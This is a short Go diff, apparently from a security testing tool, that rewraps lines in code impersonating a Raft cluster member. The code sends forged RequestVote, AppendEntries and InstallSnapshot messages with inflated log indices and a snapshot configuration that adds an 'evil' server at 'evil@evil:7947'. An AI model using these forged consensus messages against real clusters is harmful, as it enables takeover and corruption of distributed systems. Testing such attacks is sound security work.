@@ -24,7 +24,8 @@ type Raft struct {
 // Raft returns a Raft server that sends messages to a member in the name of a server.
 func (a *Attacker) Raft(ctx context.Context, to Target, called string) Raft {
 	trans := raft.NewNetworkTransportWithConfig(&raft.NetworkTransportConfig{
-		Logger: hclog.NewNullLogger(), Stream: &stream{a: a, ctx: ctx, to: to, done: make(chan struct{})}, MaxPool: 1, MaxRPCsInFlight: 1, Timeout: callTimeout,
+		Logger: hclog.NewNullLogger(), Stream: &stream{a: a, ctx: ctx, to: to, done: make(chan struct{})}, MaxPool: 1,
+		MaxRPCsInFlight: 1, Timeout: callTimeout,
 	})
 	return Raft{trans, raft.RPCHeader{ProtocolVersion: 3, ID: []byte(called), Addr: []byte(called + "@evil:7947")}}
 }
@@ -91,7 +92,8 @@ func Messages(snapshot []byte) []Message {
 			return r.AppendEntries("", "", &in, &raft.AppendEntriesResponse{})
 		}},
 		{"RequestVote", func(r Raft, term uint64) error {
-			in := raft.RequestVoteRequest{RPCHeader: r.Header, Term: term, LastLogIndex: 1 << 40, LastLogTerm: term, LeadershipTransfer: true}
+			in := raft.RequestVoteRequest{RPCHeader: r.Header, Term: term, LastLogIndex: 1 << 40, LastLogTerm: term,
+				LeadershipTransfer: true}
 			return r.RequestVote("", "", &in, &raft.RequestVoteResponse{})
 		}},
 		{"RequestPreVote", func(r Raft, term uint64) error {
@@ -103,8 +105,10 @@ func Messages(snapshot []byte) []Message {
 		}},
 		{"InstallSnapshot", func(r Raft, term uint64) error {
 			in := raft.InstallSnapshotRequest{
-				RPCHeader: r.Header, SnapshotVersion: 1, Term: term, LastLogIndex: 1 << 40, LastLogTerm: term, Size: int64(len(snapshot)),
-				Configuration: raft.EncodeConfiguration(raft.Configuration{Servers: []raft.Server{{ID: "evil", Address: "evil@evil:7947"}}}),
+				RPCHeader: r.Header, SnapshotVersion: 1, Term: term, LastLogIndex: 1 << 40, LastLogTerm: term,
+				Size: int64(len(snapshot)),
+				Configuration: raft.EncodeConfiguration(raft.Configuration{Servers: []raft.Server{{ID: "evil",
+					Address: "evil@evil:7947"}}}),
 			}
 			return r.InstallSnapshot("", "", &in, &raft.InstallSnapshotResponse{}, bytes.NewReader(snapshot))
 		}},
